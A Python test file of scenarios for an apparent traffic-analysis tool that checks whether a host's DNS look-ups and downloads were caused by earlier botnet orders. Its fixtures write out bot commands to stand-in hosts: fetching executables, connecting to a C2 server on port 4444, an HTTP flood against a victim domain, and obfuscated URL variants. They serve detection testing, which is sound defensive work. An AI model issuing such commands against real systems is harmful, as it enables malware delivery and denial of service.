# SPDX-License-Identifier: GPL-2.0-or-later
"""What a URL, name or address in a text that a host received led to, and what it did not."""
import base64
import hashlib

from cause_base import AAAA, DOWN, NXDOMAIN, UP, Scenarios, dns, executable, maybe, text, url

scenario = Scenarios()
FILE = "http://files.example/wr.jpg"
GET = "!get " + FILE


@scenario
def url_order_to_fetch(s):
    """The order !get makes the bot look the name up and fetch the file."""
    boss = s.irc(s.out(9))
    s.wait(1)
    order = boss.hear(GET)
    found = s.look_up("files.example", s.out(10), url(order))
    file = s.fetch(FILE, found, url(order))
    s.first(file.start, order)
    s.root(file.start, boss.start)
    s.root(found.query, boss.start)


@scenario
def url_in_topic(s):
    """The channel's topic is the order, as a bot reads it when it joins."""
    order = s.irc(s.out(9)).topic(".download %s c:\\a.exe 1" % FILE)
    s.visit(FILE, s.out(10), url(order))


@scenario
def url_of_the_boss_looked_up(s):
    """The server of the chat is looked up first: the chain has four members."""
    found = s.look_up("irc.boss.example", s.out(9))
    boss = s.irc(found, port=65520)
    order = boss.hear(GET)
    file = s.visit(FILE, s.out(10), url(order))
    s.root(file.start, boss.start)


@scenario
def url_of_file_by_its_hash(s):
    """The order names the file by its hash alone; it comes from an address that nobody named."""
    file = executable()
    body = file.split(b"\r\n\r\n", 1)[1]
    order = s.irc(s.out(9)).hear("run sha256 " + hashlib.sha256(body).hexdigest())
    s.irc(s.out(8)).hear("run sha256 " + hashlib.sha256(body + b"x").hexdigest())
    s.wait(1)
    s.fetch("http://%s/a" % s.out(10), s.out(10), url(order), answer=file)


@scenario
def url_never_fetched(s):
    """Three URLs in a chat; nobody follows them, the host reads another site."""
    chat = s.irc(s.out(9))
    for name in ("one", "two", "three"):
        chat.hear("look at http://%s.example/a.exe" % name)
    s.wait(2)
    s.visit("http://www.news.example/", s.out(10))


@scenario
def url_fetched_before(s):
    """The file was looked up and fetched before the order; nothing comes of the order."""
    s.visit(FILE, s.out(10))
    s.irc(s.out(9)).hear(GET)
    s.wait(5)


@scenario
def url_fetched_by_another(s):
    """One host is told, another one looks the name up and fetches."""
    s.irc(s.out(9)).hear(GET)
    s.visit(FILE, s.out(10), host=s.other)


@scenario
def url_cached_name(s):
    """The name was looked up 100 seconds before the order: no query after it, but a request."""
    found = s.look_up("files.example", s.out(10))
    s.wait(100)
    order = s.irc(s.out(9)).hear(GET)
    s.fetch(FILE, found, url(order))


@scenario
def url_cached_name_no_http(s):
    """The same where nothing but the earlier answer tells the name."""
    found = s.look_up("c2.example.net", s.out(10))
    s.wait(50)
    order = s.irc(s.out(9)).hear("!connect c2.example.net:4444")
    s.connect(found, 4444, url(order)).say(UP, b"\1\2\3\4")


@scenario
def url_after_window(s):
    """45 seconds after the order: too late to be its effect."""
    s.irc(s.out(9)).hear(GET)
    s.wait(45)
    s.visit(FILE, s.out(10))


@scenario
def url_just_in_window(s):
    """25 seconds after the order."""
    order = s.irc(s.out(9)).hear(GET)
    s.wait(25)
    s.visit(FILE, s.out(10), url(order))


@scenario
def url_two_hosts(s):
    """Two bots get different orders; their look-ups and downloads interleave."""
    one, two = s.irc(s.out(9)), s.irc(s.out(8), host=s.other)
    first, second = one.hear("!get http://a.example/1"), two.hear("!get http://b.example/2")
    b = s.look_up("b.example", s.out(11), url(second), host=s.other)
    a = s.look_up("a.example", s.out(10), url(first))
    s.fetch("http://b.example/2", b, url(second), host=s.other)
    s.fetch("http://a.example/1", a, url(first))


@scenario
def url_two_hosts_crossed(s):
    """Two bots get different orders; each visits what only the other was told."""
    s.irc(s.out(9)).hear("!get http://a.example/1")
    s.irc(s.out(8), host=s.other).hear("!get http://b.example/2")
    s.visit("http://b.example/2", s.out(11))
    s.visit("http://a.example/1", s.out(10), host=s.other)


@scenario
def url_told_twice(s):
    """Two orders name the same URL before one download: the newer is the best cause."""
    boss = s.irc(s.out(9))
    older = boss.hear(GET)
    s.wait(3)
    order = boss.hear("!update " + FILE)
    file = s.visit(FILE, s.out(10), url(order), maybe(url(older)))
    s.first(file.start, order)


@scenario
def url_two_in_one_order(s):
    """One line names two files on two hosts; both are fetched."""
    order = s.irc(s.out(9)).hear("!get http://a.example/1 http://b.example/2")
    s.visit("http://a.example/1", s.out(10), url(order))
    s.visit("http://b.example/2", s.out(11), url(order))


@scenario
def url_hxxp(s):
    """The URL is written hxxp://."""
    order = s.irc(s.out(9)).hear("!get hxxp://files.example/wr.jpg")
    s.visit(FILE, s.out(10), url(order))


@scenario
def url_brackets(s):
    """The dots of the name stand in brackets."""
    order = s.irc(s.out(9)).hear("!get hxxp://files[.]example/wr.jpg")
    s.visit(FILE, s.out(10), url(order))


@scenario
def url_percent(s):
    """The URL is percent-encoded as a whole."""
    order = s.irc(s.out(9)).hear("!get http%3A%2F%2Ffiles.example%2Fwr.jpg")
    s.visit(FILE, s.out(10), url(order))


@scenario
def url_base64(s):
    """The order's argument is base64."""
    order = s.irc(s.out(9)).hear("!get " + base64.b64encode(FILE.encode()).decode())
    s.visit(FILE, s.out(10), url(order))


@scenario
def url_base64_body(s):
    """The answer of a C&C server over HTTP is base64 as a whole."""
    body = base64.b64encode(b"sleep=60;load=" + FILE.encode() + b";id=7")
    asked = s.fetch("http://%s/gate.php" % s.out(9), s.out(9), answer=text(body))
    s.visit(FILE, s.out(10), url(asked.done))


@scenario
def url_wide(s):
    """The order is UTF-16, on a connection of no known protocol."""
    boss = s.connect(s.out(9), 5552)
    boss.say(UP, b"hello\r\n")
    order = boss.say(DOWN, ("download " + FILE + "\r\n").encode("utf-16-le"))
    s.visit(FILE, s.out(10), url(order))


@scenario
def url_capitals(s):
    """Scheme and host in capitals, and the port that is meant anyway."""
    order = s.irc(s.out(9)).hear("!get HTTP://Files.EXAMPLE:80/wr.jpg")
    s.visit(FILE, s.out(10), url(order))


@scenario
def url_address(s):
    """The URL names an address: nothing is looked up."""
    there = "http://%s/x.bin" % s.out(10)
    order = s.irc(s.out(9)).hear("!get " + there)
    s.fetch(there, s.out(10), url(order))


@scenario
def url_address_and_port(s):
    """The order names an address and a port; the bot connects, and nothing is HTTP."""
    order = s.irc(s.out(9)).hear("!update %s:8081" % s.out(10))
    link = s.connect(s.out(10), 8081, url(order))
    link.say(UP, b"\0\0\0\7version")


@scenario
def url_name_alone(s):
    """The order names a host without a scheme."""
    order = s.irc(s.out(9)).hear("!http.flood www.victim.example.com 80 60")
    found = s.look_up("www.victim.example.com", s.out(10), url(order))
    s.fetch("http://www.victim.example.com/", found, url(order))


@scenario
def url_tls(s):
    """An https URL: only the server's name shows."""
    order = s.irc(s.out(9)).hear("!get https://cdn.files.example/stage2")
    found = s.look_up("cdn.files.example", s.out(10), url(order))
    s.tls("cdn.files.example", found, url(order))


@scenario
def url_tls_cached(s):
    """The same, the name looked up long before."""
    found = s.look_up("cdn.files.example", s.out(10))
    s.wait(60)
    order = s.irc(s.out(9)).hear("!get https://cdn.files.example/stage2")
    s.tls("cdn.files.example", found, url(order))


@scenario
def url_dead_name(s):
    """The name in the order does not exist; the bot tries another one that nobody told."""
    order = s.irc(s.out(9)).hear("!get http://dead.example/x")
    s.look_up("dead.example", None, url(order), rcode=NXDOMAIN)
    s.visit("http://live.example/x", s.out(10))


@scenario
def url_both_families(s):
    """The name in the order is asked for as A and as AAAA; both queries come of it."""
    order = s.irc(s.out(9)).hear(GET)
    found = s.look_up("files.example", s.out(10), url(order))
    s.look_up("files.example", s.out6(10), url(order), kind=AAAA)
    s.fetch(FILE, found, url(order))


@scenario
def url_over_six(s):
    """Order, look-up and download over IPv6."""
    order = s.irc(s.out6(9), host=s.host6).hear(GET)
    options = {"host": s.host6, "kind": AAAA, "resolver": s.out6(1)}
    found = s.look_up("files.example", s.out6(10), url(order), **options)
    s.fetch(FILE, found, url(order), host=s.host6)


@scenario
def url_six_literal(s):
    """The URL names an IPv6 address."""
    there = "http://[%s]/x.bin" % s.out6(10)
    order = s.irc(s.out6(9), host=s.host6).hear("!get " + there)
    s.fetch(there, s.out6(10), url(order), host=s.host6)


@scenario
def url_cut(s):
    """The order is cut in the middle of the name: the second segment completes it."""
    boss = s.irc(s.out(9))
    boss.say(DOWN, b":boss!b@host.example PRIVMSG #x :!get http://files.ex")
    s.wait(0.4)
    order = boss.say(DOWN, b"ample/wr.jpg\r\n")
    s.visit(FILE, s.out(10), url(order))


@scenario
def url_sent_again(s):
    """The order's segment is retransmitted: its first copy counts."""
    boss = s.irc(s.out(9))
    order = s.mark()
    line = b":boss!b@host.example PRIVMSG #x :" + GET.encode() + b"\r\n"
    boss.send_reordered(DOWN, [line], [0, 0])
    s.visit(FILE, s.out(10), url(order))


@scenario
def url_reordered(s):
    """The halves of the order arrive in the wrong order: the frame that comes last completes it."""
    boss = s.irc(s.out(9))
    order = s.mark() + 1
    halves = [b":boss!b@host.example PRIVMSG #x :!get http://files.ex", b"ample/wr.jpg\r\n"]
    boss.send_reordered(DOWN, halves, [1, 0])
    s.visit(FILE, s.out(10), url(order))


@scenario
def url_said_by_host(s):
    """The host itself says the URL in a chat, then fetches it: it was told by nobody."""
    s.irc(s.out(9)).say(UP, b"PRIVMSG #x :I take " + FILE.encode() + b"\r\n")
    s.visit(FILE, s.out(10))


@scenario
def url_longer_name(s):
    """What is looked up only contains the name of the order, or is contained in it."""
    s.irc(s.out(9)).hear("!get http://files.example.org/x")
    s.visit("http://myfiles.example.org/x", s.out(10))
    s.visit("http://example.org/", s.out(11))


@scenario
def url_shared_address(s):
    """Two sites on one address: the order names one, the host reads the other."""
    older = s.look_up("files.example", s.out(10))
    s.irc(s.out(9)).hear(GET)
    found = s.look_up("blog.example", s.out(10))
    s.fetch("http://blog.example/", found, maybe(dns(older)))


@scenario
def url_refused_then_fetched(s):
    """The server refuses the first connection; the second, five seconds later, works."""
    order = s.irc(s.out(9)).hear(GET)
    found = s.look_up("files.example", s.out(10), url(order))
    s.connect(found, 80, maybe(url(order))).rst(DOWN)
    s.wait(5)
    s.fetch(FILE, found, url(order))


@scenario
def url_server_names_itself(s):
    """A page of errors names the server's own address; the client comes back for another reason."""
    home = s.look_up("c2.example", s.out(9))
    answer = text(b"502: cannot connect to %s:80 (c2)" % s.out(9).encode())
    s.fetch("http://c2.example/docs.php", home, answer=answer)
    s.wait(5)
    s.fetch("http://c2.example/docs.php", home)


@scenario
def url_list_worked_through(s):
    """A file each 25 seconds: the host has not done with the list. A break of 45 seconds ends it."""
    names = ["http://files%d.example/x.bin" % i for i in (1, 2, 3, 4)]
    answer = text("\n".join(names).encode())
    order = url(s.fetch("http://%s/gate.php" % s.out(9), s.out(9), answer=answer).done)
    for i, name in enumerate(names[:3]):
        s.wait(25 if i > 0 else 1)
        s.visit(name, s.out(10 + i), order)
    s.wait(45)
    s.visit(names[3], s.out(13))


@scenario
def url_list_over_one_connection(s):
    """A C&C answer names three files of one host; a connection fetches them all."""
    names = ["http://files.example/%d.bin" % i for i in (1, 2, 3)]
    answer = text("\n".join(names).encode())
    order = url(s.fetch("http://%s/gate.php" % s.out(9), s.out(9), answer=answer).done)
    found = s.look_up("files.example", s.out(10), order)
    link = s.fetch(names[0], found, order, keep=True).link
    s.fetch(names[1], None, order, link=link, keep=True)
    s.wait(2)
    s.fetch(names[2], None, order, link=link)


@scenario
def url_orders_over_one_connection(s):
    """Three orders one after the other; each makes the next request on a connection kept open."""
    boss = s.irc(s.out(9))
    order = boss.hear("!get http://files.example/1.bin")
    found = s.look_up("files.example", s.out(10), url(order))
    link = s.fetch("http://files.example/1.bin", found, url(order), keep=True).link
    for i in (2, 3):
        s.wait(3)
        there = "http://files.example/%d.bin" % i
        newer = boss.hear("!get " + there)
        s.fetch(there, None, url(newer), link=link, keep=True)


@scenario
def url_connected_before(s):
    """The connection was opened before the order, the request comes after it."""
    found = s.look_up("files.example", s.out(10))
    link = s.connect(found, 80)
    s.wait(2)
    order = s.irc(s.out(9)).hear(GET)
    s.fetch(FILE, None, link=link)
    s.caused(link.start, url(order))
